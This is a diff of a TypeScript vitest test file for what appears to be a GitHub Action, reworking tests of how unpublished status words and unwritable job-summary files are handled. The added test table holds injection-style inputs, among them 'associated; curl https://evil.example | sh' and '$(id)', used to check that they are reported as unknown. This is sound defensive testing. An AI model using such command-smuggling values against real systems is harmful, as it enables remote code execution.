@@ -1,7 +1,3 @@
-import { execFileSync } from 'node:child_process';
-import { mkdtempSync, rmSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import {
   account,
@@ -56,43 +52,18 @@ function runWithStatus(status: string, scenario: Scenario) {
 }
 
 describe.concurrent('the status in the outputs', () => {
-  it.concurrent.each(OTHER_STATUSES)(
-    'is unknown for a word that is not published: %s',
-    async (status) => {
-      for (const inputs of [
-        { timeout: '8s' },
-        { wait: 'false' },
-        { 'dry-run': 'true' },
-      ]) {
-        const run = await runWithStatus(status, { inputs });
-        expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
-      }
-    },
-  );
-
-  it.concurrent.each(OTHER_STATUSES)(
-    'is unknown while a removal waits for: %s',
-    async (status) => {
-      const run = await runWithStatus(status, {
-        recipients: [
-          { accountId: RECIPIENT, id: RECORD, status: 'associated' },
-        ],
-        inputs: { state: 'absent', timeout: '8s' },
-      });
-      expect(run).toMatchObject({
-        exitCode: 1,
-        outputs: { 'recipient-id': RECORD },
-      });
+  it.concurrent.each<[string, Record<string, string>]>([
+    ['validating', { timeout: '4s' }],
+    ['associated; curl https://evil.example | sh', { wait: 'false' }],
+    ['$(id)', { 'dry-run': 'true' }],
+    ['associated\u200b', { timeout: '4s' }],
+    ['mixed', { state: 'absent', timeout: '4s' }],
+  ])(
+    'is unknown for a word that is not published: %j, %j',
+    async (status, inputs) => {
+      const run = await runWithStatus(status, { inputs });
       expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
-    },
-  );
-
-  it.each(['associated ', 'associated\u200b', '\u001b[0massociated'])(
-    'is unknown for a published word with something around it: %j',
-    async (status) => {
-      const run = await runWithStatus(status, { inputs: { timeout: '8s' } });
-      expect(run.exitCode).toBe(1);
-      expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
+      expect(run.outputs['recipient-id']).toBe(RECORD);
     },
   );
 
@@ -106,7 +77,7 @@ describe.concurrent('the status in the outputs', () => {
     const run = await runWithFault(respondWith(bodyOf(records)), {
       inputs: {
         'recipient-account-id': records.map((one) => one.account_id).join(),
-        timeout: '8s',
+        timeout: '4s',
       },
     });
     expect(run.outputs['status']).toBe('mixed');
@@ -170,40 +141,11 @@ describe.concurrent('summary: false', () => {
   });
 });
 
-describe.runIf(process.platform !== 'win32')(
-  'a job summary whose file is a FIFO that nobody reads',
-  () => {
-    it.concurrent.for<[string, Record<string, string>]>([
-      ['does not hold the run', {}],
-      ['does not hold a run with invalid inputs', { 'share-id': '' }],
-    ])('%s', async ([, inputs], { expect, onTestFinished }) => {
-      const folder = mkdtempSync(join(tmpdir(), 'summary-'));
-      onTestFinished(() => rmSync(folder, { recursive: true }));
-      const GITHUB_STEP_SUMMARY = join(folder, 'fifo');
-      execFileSync('mkfifo', [GITHUB_STEP_SUMMARY]);
-      const run = await runScenario({
-        env: { GITHUB_STEP_SUMMARY },
-        inputs,
-        killAfterMs: 20_000,
-      });
-      expect(run.signal).toBe(null);
-      expect(run.annotations).toContainEqual({
-        level: 'warning',
-        title: 'Job summary could not be written',
-        message: 'GITHUB_STEP_SUMMARY is a FIFO.',
-      });
-      expect(Object.keys(run.outputs)).toHaveLength(4);
+describe.concurrent('a job summary that cannot be written', () => {
+  it('is a warning', async () => {
+    const run = await runScenario({
+      env: { GITHUB_STEP_SUMMARY: '/nowhere/summary.md' },
     });
-  },
-);
-
-it.concurrent.each<[string, string | undefined]>([
-  ['does not exist', '/nowhere/summary.md'],
-  ['is missing', undefined],
-])(
-  'a job summary that cannot be written is a warning: its file %s',
-  async (_, GITHUB_STEP_SUMMARY) => {
-    const run = await runScenario({ env: { GITHUB_STEP_SUMMARY } });
     expect(run).toMatchObject({
       exitCode: 0,
       stderr: '',
@@ -212,5 +154,15 @@ it.concurrent.each<[string, string | undefined]>([
     expect(run.annotations).toMatchObject([
       { level: 'warning', title: 'Job summary could not be written' },
     ]);
-  },
-);
+  });
+
+  it('is none where the runner asks for no summary', async () => {
+    const run = await runScenario({ env: { GITHUB_STEP_SUMMARY: undefined } });
+    expect(run).toMatchObject({
+      exitCode: 0,
+      stderr: '',
+      annotations: [],
+      outputs: { status: 'associated' },
+    });
+  });
+});
